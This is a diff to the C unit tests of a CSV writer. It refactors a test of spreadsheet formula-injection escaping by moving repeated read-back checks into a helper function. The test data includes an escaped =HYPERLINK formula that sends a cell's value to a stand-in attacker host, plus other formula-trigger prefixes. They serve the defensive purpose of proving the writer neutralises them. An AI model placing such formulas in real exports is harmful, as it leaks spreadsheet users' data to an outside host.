@@ -1366,6 +1366,21 @@ static int csv_keep(void *arg, const char *const *fields, size_t count, int64_t 
 	return 0;
 }
 
+/* The record in b read back: its n cells are cells. */
+static void csv_reads_back(const struct buf *b, const char *const *cells, size_t n)
+{
+	struct csv c;
+	csv_init(&c);
+	struct csv_got got = {0};
+	struct sw_error err;
+	sw_error_clear(&err);
+	assert_int_equal(csv_feed(&c, b->ptr, b->len, true, csv_keep, &got, &err), SW_OK);
+	assert_int_equal(got.count, n);
+	for (size_t i = 0; i < n; i++)
+		assert_string_equal(got.cells[i], cells[i]);
+	csv_release(&c);
+}
+
 static void csv_formulas(void **state)
 {
 	(void)state;
@@ -1383,27 +1398,13 @@ static void csv_formulas(void **state)
 	assert_string_equal(buf_cstr(&b),
 			    "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",\"'+1+2\",-5,-12.5,"
 			    "\"'@SUM(A1)\",\"plain, text\",\"'\tcmd\",\"'-\"\r\n");
-	struct csv c;
-	csv_init(&c);
-	struct csv_got got = {0};
-	struct sw_error err;
-	sw_error_clear(&err);
-	assert_int_equal(csv_feed(&c, buf_cstr(&b), b.len, true, csv_keep, &got, &err), SW_OK);
-	assert_int_equal(got.count, 8);
-	for (size_t i = 0; i < 8; i++)
-		assert_string_equal(got.cells[i], cells[i]);
+	csv_reads_back(&b, cells, 8);
 	/* an apostrophe before anything else is the cell's own */
 	buf_reset(&b);
 	const char *own[] = {"'quoted'", "'5", "'=SUM(A1)", "'-- draft", "''@x", "'-5"};
 	assert_int_equal(csv_record(&b, own, 6), SW_OK);
 	assert_string_equal(buf_cstr(&b), "'quoted','5,\"''=SUM(A1)\",\"''-- draft\",\"'''@x\",'-5\r\n");
-	csv_release(&c);
-	csv_init(&c);
-	assert_int_equal(csv_feed(&c, buf_cstr(&b), b.len, true, csv_keep, &got, &err), SW_OK);
-	assert_int_equal(got.count, 6);
-	for (size_t i = 0; i < 6; i++)
-		assert_string_equal(got.cells[i], own[i]);
-	csv_release(&c);
+	csv_reads_back(&b, own, 6);
 	buf_release(&b);
 }
 
